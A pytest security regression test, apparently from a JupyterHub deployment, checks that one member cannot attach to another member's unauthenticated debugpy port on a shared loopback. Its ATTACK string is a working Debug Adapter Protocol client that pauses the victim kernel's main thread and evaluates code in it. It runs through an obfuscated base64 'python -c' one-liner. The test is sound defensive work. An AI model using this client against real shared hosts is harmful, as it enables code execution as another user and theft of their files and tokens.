"""A member's kernel debugger is not another member's way into her kernel (security review
of issue 21).

Kernels run on Unix sockets (images/base ``jupyter_server_config.json``), but JupyterLab's
debugger makes ipykernel call ``debugpy.listen(("127.0.0.1", <free port>))``: debugpy's
adapter listens on loopback TCP, without any token for its clients, for the rest of the
kernel's life.  While the member's JupyterLab is attached, a second client's ``attach`` is
refused ("already being debugged"); once she turns the debugger off (JupyterLab sends
``disconnect``), anyone on the same loopback attaches, pauses her main thread and evaluates
code in it: as her, with her files, GPUs and ``$JUPYTERHUB_API_TOKEN``.  Shared loopbacks:
Docker with host networking (this test; the demo and the bridge network give each server its
own since issue 28) and, before issue 28, every job of a Slurm node.

bob turns the debugger on and off as JupyterLab does (``debug_request`` on the control
channel of his kernel's websocket) and runs a cell; alice, from her own terminal, speaks the
Debug Adapter Protocol to his debugpy port (listed in ``/proc/net/tcp`` of the shared
network namespace; the test passes it to her to stay short) and asks his paused frame for
``$JUPYTERHUB_USER``.
"""

from __future__ import annotations

import asyncio
import base64
import json
import re

import pytest

from tests.fixtures.hub import started_servers, terminal_run
from tests.fixtures.kernels import LISTENING, debug_requests, run_code, start_kernel

CPU_ONLY = [{"display_name": "CPU only", "slug": "cpu", "default": True}]
DAP_RE = re.compile(r"DAP:([^:\r\n]*):([^\r\n]*):END")

#: alice's Debug Adapter Protocol client: initialize, attach, pause bob's main thread,
#: evaluate in its top frame.  Prints DAP:<step reached>:<evaluate's result>:END.
ATTACK = r"""
import json, os, socket, sys, threading
port, seconds = int(sys.argv[1]), float(sys.argv[2])
step = "connect"
def give_up():
    print(f"DAP:{step}::END", flush=True)
    os._exit(0)
threading.Timer(seconds, give_up).start()
try:
    s = socket.create_connection(("127.0.0.1", port), timeout=seconds)
except OSError as e:
    step = "refused"
    give_up()
s.settimeout(None)
f = s.makefile("rb")
seq = 0
stopped = []
def send(command, arguments=None):
    global seq
    seq += 1
    body = json.dumps({"seq": seq, "type": "request", "command": command,
                       "arguments": arguments or {}}).encode()
    s.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)
    return seq
def recv():
    n = None
    while True:
        line = f.readline()
        if not line:
            raise EOFError
        if not line.strip():
            break
        if line.lower().startswith(b"content-length:"):
            n = int(line.split(b":")[1])
    return json.loads(f.read(n))
def answer(request):
    while True:
        m = recv()
        if m.get("type") == "event":
            if m["event"] == "initialized":
                send("configurationDone")
            elif m["event"] == "stopped":
                stopped.append(m["body"])
        elif m.get("request_seq") == request:
            if not m.get("success"):
                print(f"DAP:{step}:{m.get('message')}:END", flush=True)
                os._exit(0)
            return m.get("body") or {}
step = "initialize"
answer(send("initialize", {"adapterID": "python", "clientID": "spy", "pathFormat": "path",
                           "linesStartAt1": True, "columnsStartAt1": True}))
step = "attach"
answer(send("attach", {"justMyCode": False}))
step = "threads"
threads = answer(send("threads"))["threads"]
main = next(t["id"] for t in threads if t["name"] == "MainThread")
step = "pause"
answer(send("pause", {"threadId": main}))
while not stopped:
    m = recv()
    if m.get("event") == "stopped":
        stopped.append(m["body"])
step = "stackTrace"
frame = answer(send("stackTrace", {"threadId": main}))["stackFrames"][0]["id"]
step = "evaluate"
got = answer(send("evaluate", {"expression": "__import__('os').environ['JUPYTERHUB_USER']",
                               "frameId": frame, "context": "repl"}))["result"]
send("continue", {"threadId": main})
print(f"DAP:{step}:{got}:END", flush=True)
os._exit(0)
"""


def attack_command(port: int, seconds: float = 20) -> str:
    script = base64.b64encode(ATTACK.encode()).decode()
    return f'python -c "$(echo {script} | base64 -d)" {port} {seconds}'


async def alice_evaluates_in_bobs_kernel(hub, alice: str, bob: str, tokens: dict) -> tuple:
    """bob turns his kernel's debugger on and off and runs a 30 s cell; alice's terminal
    attaches to every port his uid began to listen on meanwhile (debugpy's).  Returns
    (the step alice reached, what her evaluate of bob's ``$JUPYTERHUB_USER`` answered: its
    repr, or "" when she got nothing)."""
    headers = {"Authorization": f"token {tokens[bob]}"}
    kernel = await start_kernel(hub.client, f"/user/{bob}", headers)
    ws_base = hub.url.replace("http://", "ws://", 1) + f"/user/{bob}"
    before = json.loads(await run_code(ws_base, headers, kernel, LISTENING))
    # bob turns the debugger on, then off (JupyterLab's toggle); gpuhub images refuse it
    await debug_requests(
        ws_base,
        headers,
        kernel,
        [
            (
                "initialize",
                {
                    "clientID": "jupyterlab",
                    "adapterID": "python",
                    "pathFormat": "path",
                    "linesStartAt1": True,
                    "columnsStartAt1": True,
                },
            ),
            ("attach", {}),
            ("configurationDone", {}),
            ("disconnect", {"restart": False, "terminateDebuggee": False}),
        ],
    )
    opened = set(json.loads(await run_code(ws_base, headers, kernel, LISTENING))) - set(before)
    print(f"ports {bob}'s debug requests opened: {sorted(opened)}")
    if not opened:
        return "no port", ""
    bobs_cell = asyncio.create_task(
        run_code(
            ws_base,
            headers,
            kernel,
            "import time\nfor _ in range(120):\n    time.sleep(0.25)\nprint('done')\n",
        )
    )
    await asyncio.sleep(1)
    step, got = "connect", ""
    for port in sorted(opened):
        out = await terminal_run(
            hub, alice, tokens[alice], attack_command(port), expect=":END", timeout=60
        )
        step, got = DAP_RE.findall(out)[-1]
        if got:
            break
    assert "done" in await bobs_cell  # bob's own notebook still works
    return step, got


@pytest.mark.docker
@pytest.mark.hub
async def test_another_member_cannot_attach_to_a_kernels_debugger(hub_factory, tmp_path):
    profiles = tmp_path / "profiles.json"
    profiles.write_text(json.dumps(CPU_ONLY))
    # host networking: one loopback for both servers (their own namespaces: issue 28)
    hub = await hub_factory(
        GPUHUB_CREDITS="off", GPUHUB_PROFILES=str(profiles), GPUHUB_DOCKER_NETWORK="host"
    )
    tokens = await started_servers(hub, ("alice", "bob"))
    step, got = await alice_evaluates_in_bobs_kernel(hub, "alice", "bob", tokens)
    # alice must not run code in bob's kernel (evaluate answers the value's repr)
    assert got.strip("'") != "bob", f"alice evaluated code in bob's kernel ({step}: {got})"


@pytest.mark.slurm
@pytest.mark.hub
@pytest.mark.docker
async def test_another_member_on_the_node_cannot_attach_to_a_kernels_debugger(
    slurm_hub, slurm_cluster
):
    alice, bob = "ghs-d1", "ghs-d2"
    for name in (alice, bob):
        slurm_cluster.member(name)
    # both jobs on node1: one network namespace, one loopback
    hub = await slurm_hub(
        CPU_ONLY,
        extra_config='c.GPUSlurmSpawner.req_options = "--nodelist=node1"\n',
        GPUHUB_CREDITS="off",
    )
    tokens = await started_servers(hub, (alice, bob), timeout=180)
    step, got = await alice_evaluates_in_bobs_kernel(hub, alice, bob, tokens)
    assert got.strip("'") != bob, f"{alice} evaluated code in {bob}'s kernel ({step}: {got})"
